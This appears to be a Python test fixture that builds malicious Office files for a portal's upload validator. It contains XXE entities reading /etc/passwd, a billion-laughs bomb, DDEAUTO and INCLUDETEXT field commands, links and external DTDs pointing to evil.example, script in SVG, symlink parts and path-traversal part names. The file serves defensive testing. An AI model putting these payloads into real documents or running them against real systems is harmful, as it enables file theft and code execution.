"""Office files that mean harm."""

import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.portal.lib import evil
from tests.portal.lib.hostile_file import Hostile, cut


def parts(more: dict[str, str | bytes]) -> Callable[[Path], Path]:
    return lambda path: evil.office(path, more)


def letter(more: dict[str, str | bytes], kind: str = evil.DOCX) -> Callable[[Path], Path]:
    return lambda path: evil.office(path, more, main="word/document.xml", kind=kind)


def tie(target: str, kind: str) -> Callable[[Path], Path]:
    return letter({"word/_rels/document.xml.rels": evil.relation(target, kind)})


def slide(inside: str) -> Callable[[Path], Path]:
    return parts({"ppt/slides/slide1.xml": inside})


def field(code: str) -> Callable[[Path], Path]:
    return letter({"word/header1.xml": f"<w><p><instrText> {code} </instrText></p></w>"})


def two_mains(path: Path) -> Path:
    return evil.office(path, {"word/document.xml": "<a/>"})


def no_types(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("ppt/presentation.xml", "<a/>")
    return path


def linked_away(path: Path) -> Path:
    evil.office(path, {})
    with zipfile.ZipFile(path, "a") as made:
        part = zipfile.ZipInfo("ppt/media/image1.png")
        part.external_attr = (stat.S_IFLNK | 0o777) << 16
        made.writestr(part, "/etc/passwd")
    return path


def twice_the_same(path: Path) -> Path:
    return evil.office(path, {"ppt/slides/slide1.xml": "<a/>", "ppt/slides/SLIDE1.xml": "<a/>"})


def many_parts(path: Path) -> Path:
    return evil.office(path, {f"ppt/slides/slide{n}.xml": "<a/>" for n in range(5_001)})


def flagged_locked(path: Path) -> Path:
    content = evil.office(path, {}).read_bytes()
    # The flag in the table of contents, as a packer with a password sets it.
    where = content.index(b"PK\x01\x02") + 8
    path.write_bytes(content[:where] + b"\x01" + content[where + 1 :])
    return path


def lying_size(path: Path) -> Path:
    """A part that is larger than the table of contents says."""
    content = evil.office(path, {"ppt/slides/slide1.xml": "<a>" + "b" * 5000 + "</a>"}).read_bytes()
    where = content.rindex(b"PK\x01\x02") + 24
    path.write_bytes(content[:where] + struct.pack("<I", 10) + content[where + 4 :])
    return path


def deep(path: Path) -> Path:
    return evil.office(path, {"ppt/slides/slide1.xml": "<a>" * 10_000 + "</a>" * 10_000})


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
OUTER = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

SIXTEEN = ('<?xml version="1.0" encoding="utf-16"?>' + OUTER).encode("utf-16")

OFFICE = [
    Hostile("Office: a bomb", evil.bomb_deck, "bomb"),
    Hostile("Office: macros", evil.macro_deck, "acts"),
    Hostile("Office: a type with macros", evil.macro_typed_deck, "acts"),
    Hostile(
        "Office: a letter's type with macros",
        letter({}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "acts",
    ),
    Hostile("Office: a program", evil.program_deck, "acts"),
    Hostile("Office: a link that runs a program", evil.action_deck, "acts"),
    Hostile(
        "Office: a link that runs a macro",
        slide('<a><hlinkHover action="ppaction://macro?name=x"/></a>'),
        "acts",
    ),
    Hostile("Office: an entity", evil.entity_deck, "acts"),
    Hostile("Office: a billion laughs", parts({"docProps/core.xml": LAUGHS}), "acts"),
    Hostile("Office: an entity from outside", letter({"word/footnotes.xml": OUTER}), "acts"),
    Hostile("Office: an entity in the relations", parts({"ppt/_rels/presentation.xml.rels": OUTER}), "acts"),
    Hostile("Office: an entity in sixteen bits", parts({"ppt/slides/slide1.xml": SIXTEEN}), "acts"),
    Hostile(
        "Office: a type of its own",
        letter({"customXml/item1.xml": "<!DOCTYPE a SYSTEM 'https://evil.example/a.dtd'><a/>"}),
        "acts",
    ),
    Hostile("Office: elements without end", deep, "bomb"),
    Hostile("Office: a control", parts({"ppt/activeX/activeX1.xml": "<a/>"}), "acts"),
    Hostile("Office: a form's control", parts({"xl/ctrlProps/ctrlProp1.xml": "<a/>"}), "acts"),
    Hostile(
        "Office: an object of a program",
        parts({"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "acts",
    ),
    Hostile("Office: an object on a slide", slide("<a><oleObj/></a>"), "acts"),
    Hostile("Office: an object in a letter", letter({"word/header1.xml": "<w><OLEObject/></w>"}), "acts"),
    Hostile("Office: a letter in a deck", parts({"ppt/embeddings/letter.docx": b"PK"}), "acts"),
    Hostile(
        "Office: a page of the web in a letter",
        letter({"word/afchunk.html": "<script>alert(1)</script>"}),
        "acts",
    ),
    Hostile(
        "Office: a script in a drawing",
        parts({"ppt/media/image1.svg": "<svg><script>alert(1)</script></svg>"}),
        "acts",
    ),
    Hostile("Office: an entity in a drawing", parts({"ppt/media/image1.svg": OUTER}), "acts"),
    Hostile("Office: macros behind a chart", evil.macro_chart, "acts"),
    Hostile(
        "Office: a table in a table",
        parts({"ppt/embeddings/a.xlsx": evil.book("xl/workbook.xml", "xl/b.xlsx")}),
        "outside",
    ),
    Hostile(
        "Office: a table that links out",
        parts({"ppt/embeddings/a.xlsx": evil.book("xl/externalLinks/externalLink1.xml")}),
        "outside",
    ),
    Hostile("Office: a table that is none", parts({"ppt/embeddings/a.xlsx": b"PK no table"}), "broken"),
    Hostile("Office: a picture from the web", evil.reaching_deck, "outside"),
    Hostile("Office: a share", evil.share_deck, "outside"),
    Hostile("Office: a script as a link", tie("javascript:alert(1)", "hyperlink"), "outside"),
    Hostile("Office: a letter within a letter", tie("https://evil.example/a.docx", "subDocument"), "outside"),
    Hostile("Office: a frame from the web", tie("https://evil.example/", "frame"), "outside"),
    Hostile("Office: an object from the web", tie("https://evil.example/a.rtf", "oleObject"), "outside"),
    Hostile("Office: a sound from a share", tie("file://server/a.wav", "audio"), "outside"),
    Hostile("Office: a command in pieces", evil.dde_letter, "outside"),
    Hostile("Office: a command in one piece", field('DDEAUTO c:\\\\x.exe "a"'), "outside"),
    Hostile("Office: a text from outside", field('INCLUDETEXT "\\\\\\\\server\\\\a"'), "outside"),
    Hostile(
        "Office: a picture from outside", field('INCLUDEPICTURE "https://evil.example/a.png"'), "outside"
    ),
    Hostile("Office: a link to a table", field("LINK Excel.Sheet.12 a.xlsx"), "outside"),
    Hostile(
        "Office: a simple field from outside",
        letter({"word/header1.xml": '<w><fldSimple instr="INCLUDETEXT a"/></w>'}),
        "outside",
    ),
    Hostile("Office: a name that climbs", evil.slipping_deck, "broken"),
    Hostile("Office: a name from the root", parts({"/etc/cron.d/x.xml": "<a/>"}), "broken"),
    Hostile("Office: a name of another system", parts({"ppt\\..\\..\\x.xml": "<a/>"}), "broken"),
    Hostile("Office: a name with a drive", parts({"c:/x.xml": "<a/>"}), "broken"),
    Hostile("Office: a part that is a link", linked_away, "broken"),
    Hostile("Office: a part that is there twice", twice_the_same, "broken"),
    Hostile("Office: five thousand parts", many_parts, "bomb"),
    Hostile("Office: a part larger than it says", lying_size, "broken"),
    Hostile("Office: locked", parts({"EncryptedPackage": b"x"}), "encrypted"),
    Hostile("Office: locked part by part", flagged_locked, "encrypted"),
    Hostile("Office: a deck and a letter at once", two_mains, "not_office"),
    Hostile("Office: without a list of types", no_types, "not_office"),
    Hostile("Office: a packed file", evil.only_a_zip, "not_office"),
    Hostile("Office: words that are not well-formed", slide("<a><b></a>"), "broken"),
    Hostile("Office: cut short", cut(evil.program_deck, 0.6), "broken"),
]
